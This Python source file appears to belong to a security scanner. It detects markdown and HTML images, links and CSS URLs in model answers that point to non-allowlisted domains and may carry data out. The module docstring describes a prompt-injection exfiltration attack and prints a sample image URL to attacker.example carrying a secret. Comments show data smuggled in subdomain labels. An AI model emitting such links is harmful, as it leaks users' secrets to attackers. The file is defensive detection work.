"""Markdown images and links that send data to domains not on the allowlist.

A model tricked by an injected document can answer with
``![](https://attacker.example/p?q=<secret>)``: the chat UI fetches the image
and the secret leaves without a click. Links need a click, so they score lower.
Hosts are compared by registered domain (tldextract with its bundled public
suffix snapshot: no network), and an allowlist entry covers its subdomains.
"""

from __future__ import annotations

import functools
import ipaddress
import re
from dataclasses import dataclass
from urllib.parse import parse_qsl, urlsplit

import tldextract

from ramparts.detectors.base import Detector, Finding, ScanContext, Sensitivity
from ramparts.detectors.options import Strings
from ramparts.detectors.output.css import css_urls, style_attributes, style_elements
from ramparts.detectors.output.labels import label_start, opens_plainly, surely_closed
from ramparts.detectors.output.rescans import Rescan, current_rescan
from ramparts.detectors.output.urls import (
    external_host,
    has_placeholder,
    html_attribute,
    markdown_destination,
)
from ramparts.detectors.secrets.options import string_set

# ![alt](url "title"), [text](url), <img src="url">, <a href="url">, [ref]: url
# Classes exclude the brackets that open the next attempt, so attempts never
# overlap and a scan stays linear even on "[[[[" or "](](](" floods.
# Between "](" and the URL CommonMark allows spaces and tabs with one line break.
_GAP = r"[ \t]{0,256}+(?:\r?\n[ \t]{0,256}+)?"
# A destination may hold brackets, as CommonMark allows: an IPv6 host, or a placeholder
# (``https://[EMAIL_1].evil.example``, see ``urls.PLACEHOLDER``). So it is read ahead,
# not consumed: a "[" in it may open the next label (``https://x/[a](https://…``), and
# each read ends at the next "(", so reads never overlap and a scan stays linear. It
# does not start with "]": a flood of "](](" holds no destination.
URL_START = r"[^\s()<>\]]"
_URL_AHEAD = r"(?=(?P<url>" + URL_START + r"[^\s()<>]{0,4095}+))"
_URL = r"<?" + _URL_AHEAD
# Only a URL with a "/", ":" or what decodes to one (a "\" escape, an "&" entity) can
# name a host (``urls.external_host``); others never score, so they are not read at all
# (a flood of "[](" or "![a](" must stay cheap, streamed or not).
_HOSTED = r"(?=[^\s()<>/:\\&]{0,4095}+[/:\\&])"
_INLINE = r"(?P<bang>!?)\[(?P<label>[^\[\]\n]{0,500}+)\]\(" + _GAP
_MARKDOWN = re.compile(_INLINE + _URL)  # every inline image or link
_HOSTED_MARKDOWN = re.compile(_INLINE + r"<?" + _HOSTED + _URL_AHEAD)
# Every link destination that may name a host, whatever its label: CommonMark labels
# may nest brackets (``![a[b]](url)``), escape them (``![a\]b](url)``) or break lines,
# and a renderer still shows an image. Those ``_MARKDOWN`` did not explain are judged
# by ``labels.label_start``.
HOSTED_DESTINATION = re.compile(r"\]\(" + _GAP + r"<?" + _HOSTED + _URL_AHEAD)
# A reference label character: no bracket or line break, unless backslash-escaped
# (CommonMark: ``[r\]x]`` is the label ``r\]x``, compared as written).
LABEL_CHAR = r"(?:[^\[\]\\\n]|\\[^\n])"
# Unanchored: a definition may sit in a block quote or list item (``> [r]: url``),
# and its destination may follow on the next line.
REFERENCE = re.compile(
    r"\[(?P<label>" + LABEL_CHAR + r"{1,999}+)\]:[ \t]{0,64}+(?:\r?\n[ \t]{0,64}+)?"
    r"<?(?P<url>[^\s<>]{1,4096}+)"
)
# Image uses of a reference: full ``![alt][r]``, collapsed ``![r][]`` and shortcut
# ``![r]`` (not ``![alt](url)``, an inline image).
IMAGE_REFERENCE = re.compile(
    r"!\[(?P<alt>" + LABEL_CHAR + r"{0,999}+)\]"
    r"(?:\[(?P<label>" + LABEL_CHAR + r"{0,999}+)\]|(?![(\[]))"
)
_WHITESPACE = re.compile(r"\s+")
_TAG = re.compile(
    r"(?i)<(?P<tag>img|a|iframe|source|video|audio|link|script|embed|object|input|image)\b"
    r"(?P<attrs>[^<>]{0,4096}+)"
)
_URL_ATTRIBUTE = re.compile(
    r"(?i)\b(?P<name>src|href|srcset|poster|data)\s{0,4}=\s{0,4}"
    r"(?:\"(?P<double>[^\"]{0,4096}+)\"|'(?P<single>[^']{0,4096}+)'|(?P<bare>[^\s\"'<>]{1,4096}+))"
)
_AUTOLOADED_TAGS = frozenset(
    {
        "img",
        "iframe",
        "source",
        "video",
        "audio",
        "link",
        "script",
        "embed",
        "object",
        "input",
        "image",
    }
)
_LONG_VALUE = 24
# Explanations name a registered domain whose label is at most this long, and a
# non-public host only by a last label like this one (explanations never echo data).
_NAMED_LABEL = 20
_PLAIN_SUFFIX = re.compile(r"[a-z]{2,12}")
# Shorter destinations are not checked for data (a flood of "](//a" must stay cheap); a
# 12-character mixed-case host label fits in 16 ("//c2VjcmV0LXZh.x.co").
_SHORTEST_CARRIER = 16


@dataclass(frozen=True, slots=True)
class _Reference:
    start: int
    end: int
    raw: str  # as written in the answer
    autoloads: bool  # for an undecided destination, True (whether it may)
    markdown: bool  # a markdown destination (else an HTML attribute value, decoded)
    # An inline destination whose label is read only if its URL would be reported
    # (``_decided``): its "]", and whether a "[" at ``start`` may open its label.
    close: int = -1
    plain: bool = False
    # The "]" of an inline destination (its place in a streamed answer, see ``rescans``).
    bracket: int = -1

    @property
    def url(self) -> str:
        """As the renderer emits it: escapes and entities decoded (never longer than raw)."""
        return markdown_destination(self.raw) if self.markdown else self.raw


@functools.lru_cache(maxsize=1)
def _extractor() -> tldextract.TLDExtract:
    return tldextract.TLDExtract(cache_dir=None, suffix_list_urls=())


def registered_domain(host: str) -> str:
    """example.co.uk for a.b.example.co.uk; the host itself for IPs and bare names.

    Not memoised: hosts come from model answers and may carry data
    (``sk-live-….attacker.example``), which must not outlive the scan.
    """
    result = _extractor()(host)
    if hasattr(result, "top_domain_under_public_suffix"):
        domain = result.top_domain_under_public_suffix
    else:  # tldextract < 5.3
        domain = result.registered_domain
    return str(domain or host).lower()


def host_description(host: str) -> str:
    """How an explanation names ``host`` without echoing data it may carry: its registered
    domain under a public suffix (unless that looks like data too), else only a short
    plain last label (``a non-public host under .corp``). Subdomains, IP addresses and
    hosts that did not parse are never shown."""
    host = host.lower().rstrip(".")
    if host.startswith("["):
        return "an IP address" if _is_ip_address(host[1:-1]) else "a host that does not parse"
    if _is_ip_address(host):
        return "an IP address"
    result = _extractor()(host)
    if result.suffix and result.domain:
        if _looks_like_data(result.domain):
            return f"a host under .{result.suffix} whose name is not shown (it may carry data)"
        return f"{result.domain}.{result.suffix}"
    last = host.rpartition(".")[2]
    if "." in host and _PLAIN_SUFFIX.fullmatch(last):
        return f"a non-public host under .{last}"
    return "a non-public host"


def _is_ip_address(host: str) -> bool:
    try:
        ipaddress.ip_address(host)
    except ValueError:
        return False
    return True


def _looks_like_data(label: str) -> bool:
    """A registered-domain label too long or with too many digits to name safely."""
    return len(label) > _NAMED_LABEL or _digits(label) > 3


def is_allowed(host: str, allowed: frozenset[str]) -> bool:
    """An allowlist entry matches the host, its registered domain, or any parent domain;
    none matches a host that did not parse (``urls.external_host``: in brackets)."""
    if host.startswith("["):
        return False
    host = host.lower().rstrip(".")
    if host in allowed or registered_domain(host) in allowed:
        return True
    return any(host.endswith("." + entry) for entry in allowed)


def carries_data(url: str) -> bool:
    """Query values, path segments or host labels that can smuggle data out, or a
    placeholder (restoring it puts a redacted value into the URL). Never raises: a URL
    that does not parse carries data when it is long enough to."""
    if has_placeholder(url):
        return True
    try:
        parts = urlsplit(url)
    except ValueError:
        return len(url) >= _LONG_VALUE
    values = [v for _, v in parse_qsl(parts.query, keep_blank_values=True)]
    values += [s for s in parts.path.split("/") if s]
    if any(len(v) >= _LONG_VALUE for v in values) or len(parts.query) >= 2 * _LONG_VALUE:
        return True
    host = external_host(url, keep_case=True)
    return host is not None and host_carries_data(host)


def host_carries_data(host: str) -> bool:
    """Subdomain labels that smuggle data (``<base64>.attacker.example``): judged like a
    query string (a label or all of them long), plus signs of encoding in shorter ones
    (mixed case, which DNS ignores; many digits) and a whole host name or e-mail
    address nested in front of the registered domain (``john.doe.example.com.evil.example``).
    ``host`` as written (case kept)."""
    labels = host.rstrip(".").split(".")
    # Cheapest first: the subdomain is at most the labels before the last two, and each
    # test only fires on more or longer labels, so ordinary hosts skip the suffix lookup.
    if not _labels_carry(labels[:-2], exact=False):
        return False
    lowered = ".".join(labels).lower()
    registered = registered_domain(lowered)
    if not lowered.endswith("." + registered):  # no known public suffix: the last two labels
        registered = ".".join(labels[-2:]).lower()
    return _labels_carry(labels[: len(labels) - registered.count(".") - 1], exact=True)


def _labels_carry(labels: list[str], *, exact: bool) -> bool:
    """Whether subdomain ``labels`` carry data; with ``exact=False``, whether labels
    that include them might (a cheap upper bound, no suffix lookup)."""
    if not labels:
        return False
    for label in labels:
        size = len(label)
        if size >= _LONG_VALUE:
            return True
        if size >= 9 and (label.isdigit() or (size >= 16 and 4 * _digits(label) >= size)):
            return True
    joined = "".join(labels)
    if len(joined) >= 2 * _LONG_VALUE:
        return True
    if len(joined) >= 12 and joined.lower() != joined != joined.upper():
        return True
    if len(labels) < 4:
        return False
    if not exact:
        return True
    # A registrable domain with at least two labels in front, nested in the subdomain.
    nested = _extractor()(".".join(labels))
    return bool(nested.suffix and nested.domain and "." in nested.subdomain)


def _digits(label: str) -> int:
    return sum(c.isdigit() for c in label)


class ExfiltrationLinkDetector(Detector):
    """Images and links in a model answer that point outside the allowed domains.

    Options: ``allowed_domains`` (list of domains; subdomains are included).
    """

    name = "output.exfil_link"
    option_specs = {
        "allowed_domains": Strings(help="domains (and their subdomains) links may point to"),
    }
    side = "output"
    kinds = ("exfil-image", "exfil-link")
    description = "Markdown/HTML images and links to domains not on the allowlist"

    def scan(self, text: str, context: ScanContext) -> list[Finding]:
        # Style attributes are matched outside tags too (a streamed rescan may start
        # between "<div " and "style="): they need a "=".
        css = ("<" in text or "=" in text) and "style" in text.lower()
        if "](" not in text and "]:" not in text and "<" not in text and not css:
            return []
        allowed = frozenset(
            d.lower().lstrip(".") for d in string_set(context.options, "allowed_domains", self.name)
        )
        rescan = current_rescan(text)
        findings = []
        for reference in _references(text, css, rescan):
            finding = self._judged(text, reference, context, allowed)
            if finding is not None:
                findings.append(finding)
            elif rescan is not None and reference.bracket >= 0:
                rescan.note_passed(reference.bracket)
        # In the order of their starts, as the references were found (undecided ones
        # only learn theirs when judged).
        return sorted(findings, key=lambda f: f.start)

    def _judged(
        self, text: str, reference: _Reference, context: ScanContext, allowed: frozenset[str]
    ) -> Finding | None:
        """The finding ``reference`` makes, if it scores at least ``context.min_score``."""
        # Cheapest first: a destination too short to carry data and not an image
        # scores below the engine's cut and is dropped without decoding or domain
        # lookups (a flood of "](//a" must stay cheap, streamed or not).
        # A placeholder is judged as written: restoring reads the raw answer.
        raw = reference.raw
        url = reference.url  # decoded once
        smuggles = has_placeholder(raw) or (len(raw) >= _SHORTEST_CARRIER and carries_data(url))
        if reference.plain and _score(False, smuggles) < context.min_score:
            # As a link it would not be reported: whether its "[" plainly opens its
            # label is cheaper to read than its host.
            reference = _plainly_opened(text, reference)
        if _score(reference.autoloads, smuggles) < context.min_score:
            return None
        host = external_host(url)
        if not host or is_allowed(host, allowed):
            return None
        if reference.close >= 0:  # its label is read only now (it may be reported)
            reference = _decided(text, reference)
        score = _score(reference.autoloads, smuggles)
        if score < context.min_score:
            return None
        return self._finding(context, text, reference, host, score, smuggles)

    def _finding(
        self,
        context: ScanContext,
        text: str,
        reference: _Reference,
        host: str,
        score: float,
        smuggles: bool,
    ) -> Finding:
        if reference.autoloads:
            kind, what = "exfil-image", "auto-loaded image"
        else:
            kind, what = "exfil-link", "link"
        if smuggles and has_placeholder(reference.raw):
            payload = ", with a placeholder that restoring would replace with a redacted value"
        elif smuggles:
            payload = ", with a data-carrying query, path or host name"
        else:
            payload = ""
        return self.finding(
            context,
            text,
            reference.start,
            reference.end,
            kind=kind,
            score=score,
            explanation=f"{what} to {host_description(host)}, not an allowed domain{payload}",
            sensitivity=Sensitivity.RESTRICTED if smuggles else Sensitivity.CONFIDENTIAL,
        )


def reference_label(label: str) -> str:
    """A reference label as CommonMark matches it: case and runs of whitespace ignored."""
    return _WHITESPACE.sub(" ", label).strip().casefold()


def image_reference_labels(text: str) -> set[str]:
    """The labels ``text`` uses as images (``![alt][r]``, ``![r][]``, ``![r]``)."""
    return {
        reference_label(m.group("label") or m.group("alt")) for m in IMAGE_REFERENCE.finditer(text)
    }


def _references(text: str, css: bool, rescan: Rescan | None) -> list[_Reference]:
    """Every markdown destination (but those an earlier ``rescan`` passed), HTML URL
    attribute and (with ``css``) CSS URL; hosts are judged later."""
    found = _markdown_references(text, rescan) if "](" in text else []
    if "]:" in text:
        images = image_reference_labels(text)
        for m in REFERENCE.finditer(text):
            autoloads = reference_label(m.group("label")) in images
            found.append(_Reference(m.start(), m.end(), m.group("url"), autoloads, True))
    if css:
        found += _css_references(text)
    if "<" in text:
        for tag in _TAG.finditer(text):
            autoloads = tag.group("tag").lower() in _AUTOLOADED_TAGS
            found += [
                _Reference(tag.start(), tag.end(), url, autoloads, False)
                for url in _attribute_urls(tag.group("attrs"))
            ]
    return found


def _score(autoloads: bool, smuggles: bool) -> float:
    if autoloads:
        return 0.95 if smuggles else 0.7
    return 0.75 if smuggles else 0.4


def _markdown_references(text: str, rescan: Rescan | None) -> list[_Reference]:
    """Inline images, and links and other destinations whose labels are read later
    (``_decided``), of URLs that may name a host; but those an earlier rescan of a
    stream passed (``rescans``)."""
    found = []
    explained = set()
    for m in _HOSTED_MARKDOWN.finditer(text):
        close = m.end("label")
        explained.add(close)
        if rescan is not None and rescan.passed(close):
            continue
        url = m.group("url")
        if m.group("bang") == "!":
            found.append(_Reference(m.start(), m.end("url"), url, True, True, bracket=close))
        else:
            found.append(_Reference(m.start(), m.end("url"), url, True, True, close, True, close))
    for m in HOSTED_DESTINATION.finditer(text):
        close = m.start()
        if close not in explained and (rescan is None or not rescan.passed(close)):
            url = m.group("url")
            found.append(_Reference(close, m.end("url"), url, True, True, close, bracket=close))
    return found


def _plainly_opened(text: str, reference: _Reference) -> _Reference:
    """A link, when the "[" of an undecided inline destination surely opens its label
    (``labels.opens_plainly``: nothing hides it, ``![a `[`](url)`` is an image), else
    the destination, left for ``labels.label_start``."""
    start, end, raw, close = reference.start, reference.end, reference.raw, reference.close
    if opens_plainly(text, start, close):
        return _Reference(start, end, raw, False, True, bracket=reference.bracket)
    return _Reference(start, end, raw, True, True, close, bracket=reference.bracket)


def _decided(text: str, reference: _Reference) -> _Reference:
    """An undecided inline destination with its label read: a link when its "[" surely
    opens it (``labels.opens_plainly``: nothing hides it, ``![a `[`](url)`` is an image),
    else as ``labels.label_start`` judges it."""
    close = reference.close
    if reference.plain and opens_plainly(text, reference.start, close):
        start, autoloads = reference.start, False
    else:
        start, autoloads = label_start(text, close, functools.partial(_closed_image, text))
    return _Reference(start, reference.end, reference.raw, autoloads, True)


def _closed_image(text: str, at: int) -> int | None:
    """The "]" of the inline image at the "![" at ``at``, if its label surely ends
    there (``labels.surely_closed``). ``_MARKDOWN`` matches never overlap, so the one
    found here is the one a scan of all of ``text`` finds."""
    m = _MARKDOWN.match(text, at)
    if m is None or not m.group("bang") or not surely_closed(m.group("label")):
        return None
    return m.end("label")


def _attribute_urls(attrs: str) -> list[str]:
    """The URLs of a tag's URL attributes; every candidate of a ``srcset``."""
    urls = []
    for m in _URL_ATTRIBUTE.finditer(attrs):
        value = html_attribute(m.group("double") or m.group("single") or m.group("bare") or "")
        if m.group("name").lower() == "srcset":
            urls += [c.split()[0] for c in value.split(",") if c.strip()]
        else:
            urls.append(value)
    return urls


def _css_references(text: str) -> list[_Reference]:
    """URLs fetched by CSS in style attributes and ``<style>`` elements (images)."""
    found = [
        _Reference(start, end, url, True, False)
        for start, end, css in style_attributes(text)
        for url in css_urls(css)
    ]
    if "<" in text:
        for start, end in style_elements(text):
            found += [_Reference(start, end, url, True, False) for url in css_urls(text[start:end])]
    return found
